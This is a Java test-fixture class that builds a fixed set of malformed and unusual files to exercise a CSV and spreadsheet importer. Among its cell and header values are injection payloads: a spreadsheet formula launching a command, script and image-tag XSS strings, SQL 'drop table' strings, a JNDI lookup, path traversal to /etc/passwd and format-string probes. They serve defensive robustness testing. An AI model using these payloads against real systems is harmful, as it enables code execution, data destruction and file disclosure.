package fr.faubourg.tables;

import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/** Two hundred broken and strange files and more, the same at each run: what people and programs really send. */
final class StrangeFiles {
    /** Headings that each kind of import knows some of. */
    static final String HEADINGS =
            "code;nom;numero;date;type;constat;adresse;lon;lat;partenaire;courriel;siret;place;code_qp_2015;code_qp_2024;valeur";

    /** A row that most kinds can make something of. */
    static final String ROW =
            "QN09901M;Les Tanneries;A1;12/03/2026;Propreté;Dépôt sauvage;3 rue du Moulin;2,35;48,87;Habitat du Loir;a@b.example;12345678900012;R1;QP099001;QN09901M;12,5";

    /** A file as it is sent. */
    record StrangeFile(String name, byte[] content) {
        @Override
        public String toString() {
            return name;
        }
    }

    private final List<StrangeFile> files = new ArrayList<>();

    private StrangeFiles() {}

    static List<StrangeFile> all() {
        StrangeFiles made = new StrangeFiles();
        made.encodings();
        made.layouts();
        made.headings();
        made.contents();
        made.otherFormats();
        made.files.addAll(StrangeGeoJson.all());
        made.files.addAll(StrangeWorkbooks.all());
        return List.copyOf(made.files);
    }

    private void encodings() {
        String text = HEADINGS + "\r\n" + ROW + "\r\n" + ROW.replace("A1", "Été à Noël : 3 €") + "\r\n";
        for (String charset : List.of(
                "UTF-8",
                "UTF-16LE",
                "UTF-16BE",
                "UTF-16",
                "UTF-32",
                "ISO-8859-1",
                "windows-1252",
                "x-MacRoman",
                "IBM850",
                "IBM500",
                "Shift_JIS",
                "windows-1251",
                "ISO-8859-15")) {
            add("encodage-" + charset + ".csv", text.getBytes(Charset.forName(charset)));
        }
        add("marque-utf8.csv", ("\uFEFF" + text).getBytes(StandardCharsets.UTF_8));
        add("marque-utf16le.csv", ("\uFEFF" + text).getBytes(StandardCharsets.UTF_16LE));
        add("marque-double.csv", ("\uFEFF\uFEFF" + text).getBytes(StandardCharsets.UTF_8));
        byte[] mixed = text.getBytes(StandardCharsets.UTF_8);
        mixed[mixed.length - 5] = (byte) 0xE9;
        add("deux-encodages.csv", mixed);
        add(
                "marque-menteuse.csv",
                concat(new byte[] {(byte) 0xFF, (byte) 0xFE}, text.getBytes(StandardCharsets.UTF_8)));
    }

    private void layouts() {
        String table = HEADINGS + "\n" + ROW + "\n" + ROW.replace("A1", "A2") + "\n";
        text(
                "virgules.csv",
                table.replace("2,35", "2.35")
                        .replace("48,87", "48.87")
                        .replace("12,5", "12.5")
                        .replace(';', ','));
        text("tabulations.txt", table.replace(';', '\t'));
        text("barres.csv", table.replace(';', '|'));
        text("deux-points.csv", table.replace(';', ':'));
        text(
                "separateurs-melanges.csv",
                HEADINGS + "\n" + ROW.replace(';', ',') + "\n" + ROW.replace(';', '\t') + "\n");
        text("sep-declare.csv", "sep=;\r\n" + table);
        text("sep-faux.csv", "sep=#\r\n" + table);
        text("guillemet-ouvert-au-debut.csv", "\"" + table);
        text("guillemet-ouvert.csv", table + "\"Q;jamais;fermé\n" + ROW + "\n");
        text("guillemet-ouvert-long.csv", table + "\"" + (ROW + "\n").repeat(2_000));
        text("guillemet-au-milieu.csv", table + ROW.replace("Dépôt", "Dé\"pôt") + "\n");
        text("guillemets-doubles.csv", table.replace("Dépôt sauvage", "\"Un \"\"gros\"\" dépôt\""));
        text("guillemets-simples.csv", table.replace("Dépôt sauvage", "'Dépôt; sauvage'"));
        text("retour-dans-cellule.csv", table.replace("Dépôt sauvage", "\"Dépôt\nsauvage\r\nencore\""));
        text("retours-chariot.csv", table.replace('\n', '\r'));
        text("retours-inverses.csv", table.replace("\n", "\n\r"));
        text("lignes-longues.csv", table + ROW + ";un;deux;trois\n");
        text("lignes-courtes.csv", table + "QN1;Court\n");
        text("points-virgules-en-trop.csv", table.replace("\n", ";;;;;;\n"));
        text("que-des-separateurs.csv", ";;;;\n;;;;\n");
        text("lignes-vides.csv", "\n\n\n" + table.replace("\n", "\n\n\n;;;\n"));
        text("titres-repetes.csv", table + HEADINGS + "\n" + ROW.replace("A1", "A3") + "\n");
        text("commentaires.csv", "# export du 12/03\n# tout\n" + table);
        text("nul.csv", table.replace("Dépôt", "Dé\0pôt"));
        text("nuls.csv", "\0".repeat(300) + table);
        text("nul-tardif.csv", table + (ROW + "\n").repeat(800) + ROW.replace("Moulin", "Mou\0lin") + "\n");
        text("controles.csv", table.replace("Dépôt", "\u0001\u0007\u001B[31mDépôt\u007F"));
        text(
                "formules.csv",
                table + ROW.replace("Les Tanneries", "=cmd|' /C calc'!A0") + "\n"
                        + ROW.replace("Les Tanneries", "@SUM(1)") + "\n" + ROW.replace("Les Tanneries", "+33 6") + "\n"
                        + ROW.replace("Les Tanneries", "-1+1") + "\n");
        text("espaces-partout.csv", table.replace(";", "   ;\u00A0 "));
        text(
                "titre-au-dessus.csv",
                "Suivi des constats 2026;;;\nCommune :;Rivemont;;\n\n" + table + "Total;;;;;;;2;3\n");
    }

    private void headings() {
        text("que-des-titres.csv", HEADINGS + "\n");
        text("un-titre.csv", "code\nQN09901M\n");
        text("titres-en-double.csv", "code;code;code;nom;nom\nA;B;C;D;E\n");
        text("titres-vides.csv", ";;;\nA;B;C;D\n");
        text("titre-tres-long.csv", "c".repeat(5_000) + ";nom\nA;B\n");
        text("titres-nombres.csv", "2019;2020;2021\n1;2;3\n");
        text("titres-avec-retour.csv", "\"code\ndu lieu\";\"nom\tusuel\"\nA;B\n");
        text("sans-titre.csv", ROW + "\n" + ROW + "\n");
        text("501-colonnes.csv", wide(501));
        text("500-colonnes.csv", wide(500));
        text("10000-colonnes.csv", wide(10_000));
        text("titres-emoji.csv", "🏠 code;👩‍👩‍👧 nom;📅 date\nA;B;12/03/2026\n");
        text("titres-arabes.csv", "الرمز;الاسم;التاريخ\nأ;ب;12/03/2026\n");
        text("titres-html.csv", "<script>alert(1)</script>;<b>nom</b>\nA;B\n");
        text("titres-sql.csv", "code'; drop table watch.observation; --;nom\nA;B\n");
        text("titres-modele.csv", "${code};{{nom}};%s%n%d\nA;B;C\n");
        text("titres-a-la-ligne-45.csv", "note\n".repeat(44) + HEADINGS + "\n" + ROW + "\n");
        text("titres-invisibles.csv", "\u200B;\u200D;\uFEFF\nA;B;C\n");
    }

    private void contents() {
        for (String date : List.of(
                "12/03/2026",
                "12-03-26",
                "12.3.26",
                "12 mars 2026",
                "lundi 12 mars 2026",
                "1er mars 2026",
                "2026-03-12",
                "20260312",
                "46093",
                "46093,75",
                "2026-03-12T10:00:00+01:00",
                "12/03/2026 14h30",
                "31/02/2026",
                "03/2026",
                "hier",
                "0000-00-00",
                "99999999",
                "-1",
                "12/03/99999")) {
            with("date-" + date.replaceAll("[^\\w,.-]", "_") + ".csv", "12/03/2026", date);
        }
        for (String number : List.of(
                "1 234,56",
                "1\u202F234,56",
                "1,234.56",
                "1.234,56",
                "12,5 %",
                "12,5 €",
                "1e400",
                "1e-400",
                "NaN",
                "Infinity",
                "-0",
                "1_000",
                "٣",
                "½",
                "9".repeat(400),
                "0x1F",
                "--5",
                "2,35°")) {
            with("nombre-" + Integer.toHexString(number.hashCode()) + ".csv", "2,35", number);
        }
        for (String cell : List.of(
                "#REF!",
                "#N/A",
                "#DIV/0!",
                "#VALEUR!",
                "null",
                "N/A",
                "-",
                "😀".repeat(100),
                "مرحبا بالعالم",
                "Z̷̢a̴l̶g̵o̷".repeat(50),
                "\u202Etxt.exe",
                "<img src=x onerror=alert(1)>",
                "%s%s%n%x",
                "${jndi:ldap://x/a}",
                "../../../etc/passwd",
                "'; drop table x; --",
                "\\",
                "\\N",
                "{\"a\":1}",
                "a\tb",
                "\u2028\u2029",
                "0".repeat(200),
                "oui",
                "x".repeat(1_000_000),
                "y".repeat(99_999),
                "\uD83D",
                "  ",
                "\u0000",
                "NUL",
                "1;2".replace(';', ','))) {
            with("cellule-" + Integer.toHexString(cell.hashCode()) + ".csv", "Les Tanneries", cell);
        }
        text("inverses.csv", HEADINGS + "\n" + ROW.replace("2,35;48,87", "48,87;2,35") + "\n");
        text("lambert.csv", HEADINGS + "\n" + ROW.replace("2,35;48,87", "652381;6862047") + "\n");
        text("meme-ligne-5000-fois.csv", HEADINGS + "\n" + (ROW + "\n").repeat(5_000));
        text("que-des-blancs.csv", HEADINGS + "\n" + (";".repeat(15) + "\n").repeat(20_000));
        text("que-des-totaux.csv", HEADINGS + "\n" + "Total;;;;;12;13\nSous-total;;1\nTOTAL GÉNÉRAL;;2\n".repeat(3));
        text(
                "20000-lignes.csv",
                HEADINGS + "\n"
                        + IntStream.range(0, 3_000)
                                .mapToObj(i -> ROW.replace("A1", "A" + i) + "\n")
                                .collect(Collectors.joining()));
    }

    private void otherFormats() {
        byte[] ole = new byte[4_096];
        byte[] mark = {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1, (byte) 0xB1, 0x1A, (byte) 0xE1};
        System.arraycopy(mark, 0, ole, 0, mark.length);
        add("ancien.xls", ole.clone());
        byte[] secret = "E\0n\0c\0r\0y\0p\0t\0e\0d\0P\0a\0c\0k\0a\0g\0e\0".getBytes(StandardCharsets.ISO_8859_1);
        System.arraycopy(secret, 0, ole, 1_024, secret.length);
        add("mot-de-passe.xlsx", ole);
        add("ole-tronque.xls", mark);
        text("page.xls", "<html><body><table><tr><td>code</td></tr></table></body></html>");
        text("page-decalee.xls", "\n\n  <!DOCTYPE html><table></table>");
        text(
                "tableur-2003.xml",
                "<?xml version=\"1.0\"?><Workbook xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\"/>");
        text("trace.gpx", "<gpx><wpt lat=\"48\" lon=\"2\"/></gpx>");
        text("document.pdf", "%PDF-1.7\n%âãÏÓ");
        text("lettre.rtf", "{\\rtf1\\ansi Bonjour}");
        add("image.png", bytes(0x89, 'P', 'N', 'G', 13, 10, 26, 10, 0, 0));
        add("photo.jpg", bytes(0xFF, 0xD8, 0xFF, 0xE0, 0, 16));
        text("anime.gif", "GIF89a");
        add("compresse.gz", bytes(0x1F, 0x8B, 8, 0, 0, 0, 0, 0));
        add("archive.7z", bytes('7', 'z', 0xBC, 0xAF, 0x27, 0x1C));
        text("archive.rar", "Rar!\u001A\u0007");
        text("liste.json", "[{\"code\":\"A\"}]");
        text("objet.json", "{\"code\":\"A\"}");
        text("lignes.ndjson", "{\"code\":\"A\"}\n{\"code\":\"B\"}\n");
        text("contact.vcf", "BEGIN:VCARD\nVERSION:3.0\nFN:Nadia\nEND:VCARD\n");
        text("agenda.ics", "BEGIN:VCALENDAR\nEND:VCALENDAR\n");
        text("message.eml", "From: a@b.example\nSubject: tableau\n\nBonjour\n");
        text("prose.txt", "Bonjour,\n\nvoici le tableau demandé.\n\nCordialement\n");
        text("base.sqlite", "SQLite format 3\0" + "\0".repeat(84));
        text("colonnes.parquet", "PAR1\u0015\0\u0015");
        add("programme.exe", bytes('M', 'Z', 0x90, 0, 3, 0, 0, 0));
        add("vide.csv", new byte[0]);
        text("un-octet.csv", "x");
        add("que-la-marque.csv", bytes(0xEF, 0xBB, 0xBF));
        text("que-des-retours.csv", "\n\r\n\n\n");
        text("que-des-espaces.csv", "      ");
        Random random = new Random(7);
        for (int size : new int[] {10, 1_000, 200_000}) {
            byte[] noise = new byte[size];
            random.nextBytes(noise);
            add("bruit-" + size + ".bin", noise);
        }
    }

    private static String wide(int columns) {
        String names = IntStream.range(0, columns).mapToObj(i -> "c" + i).collect(Collectors.joining(";"));
        return names + "\n" + names.replace('c', 'v') + "\n";
    }

    private void with(String name, String cell, String other) {
        text(name, HEADINGS + "\n" + ROW.replace(cell, other) + "\n" + ROW.replace("A1", "A2") + "\n");
    }

    private void text(String name, String content) {
        add(name, content.getBytes(StandardCharsets.UTF_8));
    }

    private void add(String name, byte[] content) {
        files.add(new StrangeFile(name, content));
    }

    static byte[] bytes(int... values) {
        byte[] bytes = new byte[values.length];
        for (int i = 0; i < values.length; i++) {
            bytes[i] = (byte) values[i];
        }
        return bytes;
    }

    private static byte[] concat(byte[] first, byte[] second) {
        byte[] both = new byte[first.length + second.length];
        System.arraycopy(first, 0, both, 0, first.length);
        System.arraycopy(second, 0, both, first.length, second.length);
        return both;
    }
}
